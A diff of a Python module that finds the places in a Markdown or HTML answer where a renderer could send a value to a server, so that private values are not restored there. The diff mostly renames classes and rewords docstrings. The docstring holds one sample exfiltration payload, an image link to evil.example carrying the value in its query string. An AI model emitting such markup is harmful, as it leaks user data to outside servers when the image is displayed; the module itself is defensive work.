@@ -1,10 +1,10 @@
-"""The places of an answer where nothing is ever put back, because they travel.
+"""Finds the places of an answer that a renderer may send over the network («travel»).
 
-A value in a link's destination, an attribute or a script could be carried off by the mere display
-or a click (`![x](https://evil.example/?q=<value>)`). A place counts as one where any reading of
-the answer makes it one: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
-autolinks. Read once from left to right with a bounded look ahead, so that a stream gives the same
-result as the whole, in linear time. What the look ahead does not decide counts as travelling.
+No value is restored there: in a link's destination, an attribute or a script it could be sent to a
+server by mere display or a click (`![x](https://evil.example/?q=<value>)`). A place travels if any
+reading of the answer says so: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
+autolinks. One pass from left to right with a bounded look-ahead, so that a stream gives the same
+result as the whole, in linear time. What the look-ahead leaves undecided counts as travelling.
 """
 
 from __future__ import annotations
@@ -15,8 +15,14 @@ from typing import Final
 from engine.returned.zones import address_ends
 from engine.returned.zones.address_ends import Verdict
 from engine.returned.zones.code_blocks import LOOK_AHEAD, Blocks, spans
-from engine.returned.zones.tags import LONGEST_OPENING, Tags, escaped, fills_attribute, whole_tag
-from engine.returned.zones.targets import ADDRESS, Targets, begins_address
+from engine.returned.zones.html_tags import (
+    LONGEST_OPENING,
+    HtmlTags,
+    escaped,
+    fills_attribute,
+    whole_tag,
+)
+from engine.returned.zones.link_targets import ADDRESS, LinkTargets, begins_address
 
 _MARKS = (
     rf"(?P<line>\r\n?|\n)|(?P<tag><)|(?P<ticks>`++)|(?P<link>\]\()|(?P<label>\]\[|!\[)"
@@ -41,15 +47,15 @@ _NAMES_TAG: Final = re.compile(r"[a-z/!?]", re.IGNORECASE)
 
 
 class Zones:
-    """Where an answer travels, up to the place that was asked about last."""
+    """State of the scan for travelling places, up to the last position asked about."""
 
     def __init__(self) -> None:
         self._at = 0
         self._fresh = True
         self._blocks = Blocks()
-        self._tags = Tags()
-        self._targets = Targets()
-        self._code: Tags | None = None
+        self._tags = HtmlTags()
+        self._targets = LinkTargets()
+        self._code: HtmlTags | None = None
         self._code_end = -1
         self._address = False
         self._address_tag = -1
@@ -86,18 +92,18 @@ class Zones:
         return verdict
 
     def accept(self, end: int) -> None:
-        """A value was put back up to `end`: what its stand-in held begins nothing."""
+        """Records that a value was restored up to `end`; marks in its stand-in open nothing."""
         self._accepted = end
 
-    def _inside(self, text: str, at: int) -> bool:
+    def _inside(self, text: str, position: int) -> bool:
         if self._address or self._blocks.info:
             return True
         if self._code is not None:
             return self._code.alive
-        return self._tags.alive or self._targets.holds(text, at)
+        return self._tags.alive or self._targets.holds(text, position)
 
     def _advance(self, text: str, to: int, *, final: bool) -> bool:
-        """Read up to `to`; False where that needs more text."""
+        """Reads up to `to`; False if more text is needed."""
         while self._fresh or self._at < to:
             if self._fresh:
                 done = self._begin_line(text, final=final)
@@ -118,7 +124,7 @@ class Zones:
         if self._blocks.ends_raw and not self._blocks.sure:
             self._tags.end_block(comments=self._blocks.leaves)
         if self._blocks.code and not was_code:
-            self._code, self._code_end = Tags(code=True), -1
+            self._code, self._code_end = HtmlTags(code=True), -1
             self._targets.end_paragraph()
         elif was_code and not self._blocks.code:
             self._code = None
@@ -131,7 +137,7 @@ class Zones:
         return match if match and match.start() < to else None
 
     def _read(self, text: str, to: int, *, final: bool) -> bool:
-        """Read up to the next mark that matters, and the mark."""
+        """Reads up to and including the next relevant mark."""
         alive = self._tags.alive or self._address or self._targets.alive
         match = self._next(_BUSY if alive else _IDLE, text, to)
         start = match.start() if match else to
@@ -147,18 +153,18 @@ class Zones:
         return True
 
     def _pass_over(self) -> None:
-        """Characters that mean nothing but that something stands there."""
+        """Passes over characters without markup meaning."""
         self._tags.pass_over()
-        self._targets.other()
+        self._targets.other_character()
 
-    def _marks_quote(self, text: str, at: int) -> bool:
-        """Whether a `>` does not end the tag, since that was begun in a quotation."""
-        if not self._quoted or text[at] != ">":
+    def _marks_quote(self, text: str, position: int) -> bool:
+        """Whether a `>` is a block quote marker rather than the end of the tag."""
+        if not self._quoted or text[position] != ">":
             return False
-        prefix = min(at, self._line + _LONGEST_PREFIX)
+        prefix = min(position, self._line + _LONGEST_PREFIX)
         if _QUOTED_LINE.match(text, self._line, prefix) is None:
             return True  # a mark, or behind the quotation's end, where Markdown escapes it
-        return _QUOTE_MARKS.fullmatch(text, self._line, prefix) is not None and prefix == at
+        return _QUOTE_MARKS.fullmatch(text, self._line, prefix) is not None and prefix == position
 
     def _read_mark(self, text: str, match: re.Match[str]) -> None:
         start, end = match.span()
@@ -181,13 +187,13 @@ class Zones:
         elif marked != "define" or start >= self._accepted:
             self._targets.read(marked or "", text, start, end)
 
-    def _tag_ends(self, text: str, at: int) -> bool:
+    def _tag_ends(self, text: str, position: int) -> bool:
         """Whether the tag in which the address began ends at `at`, in every reading."""
         begun, self._address_tag = self._address_tag, -1
         if begun < 0 or self._tags.alive:
             self._address_tag = begun
             return False
-        return whole_tag(text, begun, min(at + 1, begun + LOOK_AHEAD)) == at + 1
+        return whole_tag(text, begun, min(position + 1, begun + LOOK_AHEAD)) == position + 1
 
     def _open_address(self, text: str, start: int, end: int) -> None:
         if self._address or start < self._accepted:
@@ -198,8 +204,8 @@ class Zones:
         self._address_tag = self._tags.opened if self._tags.in_tag else -1
 
     def _see_ticks(self, text: str, start: int) -> None:
-        """Backticks: perhaps a code span, which is looked for only where HTML stands in it."""
-        self._targets.other()
+        """Records backticks; code spans are resolved only when a `<` follows."""
+        self._targets.other_character()
         self._ticked = True
         taken = self._tags.alive or self._address or self._targets.alive
         if taken or self._blocks.html or self._blocks.doubt or escaped(text, start):
@@ -208,36 +214,36 @@ class Zones:
             self._ticks = start
 
     def _read_tag(self, text: str, *, final: bool) -> bool:
-        """A `<`: code shows it, else it may begin a tag."""
-        at = self._at
-        if not final and len(text) - at < LONGEST_OPENING:
+        """Reads `<`: shown literally in code, else possibly a tag."""
+        position = self._at
+        if not final and len(text) - position < LONGEST_OPENING:
             return False
-        code_end = self._span_end(text, at, final=final)
+        code_end = self._span_end(text, position, final=final)
         if code_end is None:
             return False
-        if code_end > at:
-            self._code, self._code_end = Tags(code=True), code_end
+        if code_end > position:
+            self._code, self._code_end = HtmlTags(code=True), code_end
             return True
         self._address = False
-        prefix = min(at, self._line + _LONGEST_PREFIX)
+        prefix = min(position, self._line + _LONGEST_PREFIX)
         quoted = _QUOTED_LINE.match(text, self._line, prefix) is not None
         self._quoted = quoted or (self._quoted and self._tags.alive)
-        self._tags.begin(text, at, shown=self._may_be_shown(text, at))
-        if _RAW_END.match(text, at):
+        self._tags.begin(text, position, shown=self._may_be_shown(text, position))
+        if _RAW_END.match(text, position):
             self._blocks.close_raw()
-        self._targets.sign(text, at)
-        self._at = at + 1
+        self._targets.sign(text, position)
+        self._at = position + 1
         return True
 
-    def _may_be_shown(self, text: str, at: int) -> bool:
+    def _may_be_shown(self, text: str, position: int) -> bool:
         """Whether Markdown may show the `<` at `at` as it is: escaped, or in code of some kind."""
         self._ticked = self._ticked and self._tags.alive
         if self._blocks.sure:
             return False
         code = self._ticked or self._blocks.doubt or self._blocks.indented
-        return code or escaped(text, at)
+        return code or escaped(text, position)
 
-    def _span_end(self, text: str, at: int, *, final: bool) -> int | None:
+    def _span_end(self, text: str, position: int, *, final: bool) -> int | None:
         """Where the code span around `at` ends, -1 for none, None where that needs more text."""
         if self._ticks < 0 or not self._clean:
             return -1
@@ -245,10 +251,10 @@ class Zones:
             self._spans = spans(text, self._ticks, final=final)
         if self._spans is None:
             return None
-        return next((end for start, end in self._spans if start < at < end), -1)
+        return next((end for start, end in self._spans if start < position < end), -1)
 
     def _read_code(self, text: str, to: int, *, final: bool) -> bool:
-        """The same inside code, where only HTML and addresses matter."""
+        """`_read` inside code, where only HTML and bare URLs count."""
         code = self._code
         limit = to if self._code_end < 0 else min(to, self._code_end)
         match = self._next(_CODE, text, limit)
@@ -277,7 +283,7 @@ class Zones:
         if 0 <= self._code_end <= self._at:
             self._code, self._code_end, self._address = None, -1, False
 
-    def _read_code_mark(self, text: str, match: re.Match[str], code: Tags) -> None:
+    def _read_code_mark(self, text: str, match: re.Match[str], code: HtmlTags) -> None:
         start, end = match.span()
         if code.alive:
             for place in range(start, end):
@@ -297,7 +303,7 @@ class Zones:
             self._address = self._address and self._depth >= 0
 
     def _filled(self, text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
-        """Whether a value that is an address fills the destination it stands in."""
+        """Verdict for a URL inside a destination: free only if it is the whole destination."""
         angle = text[start - 1 : start] == "<"
         if self._address or self._blocks.info or not (kind == "URL" or angle):
             return "travels"
@@ -308,7 +314,7 @@ class Zones:
         return self._filled_text(text, start, end, kind=kind, final=final)
 
     def _filled_code(self, text: str, start: int, end: int) -> Verdict:
-        """The same in code: a whole attribute in quotes."""
+        """Verdict inside code: free only as a whole quoted attribute."""
         before, in_tag = text[start - 1 : start], self._code is not None and self._code.in_tag
         quoted = before in ("'", '"') and text[end : end + 1] == before
         return "free" if in_tag and quoted else "travels"
@@ -348,7 +354,7 @@ class Zones:
     def _followed(
         self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
     ) -> Verdict | None:
-        """Whether what stands beside makes the place part of a destination after all."""
+        """Verdict for running text: whether following text makes the value part of a URL."""
         if kind == "URL" or address_ends.holds_address(original):
             linked = text[start - 1 : start] == "["
             return address_ends.ended(text, end, final=final, linked=linked)
@@ -360,7 +366,7 @@ class Zones:
 
 
 def _in_brackets(text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
-    """A value right behind a «<»: free only where it is a whole autolink."""
+    """Verdict for a value directly after «<»: free only as a whole autolink."""
     if kind not in ("URL", "EMAIL_ADDRESS") or text[start - 1] != "<":
         return "travels"
     if end == len(text) and not final:
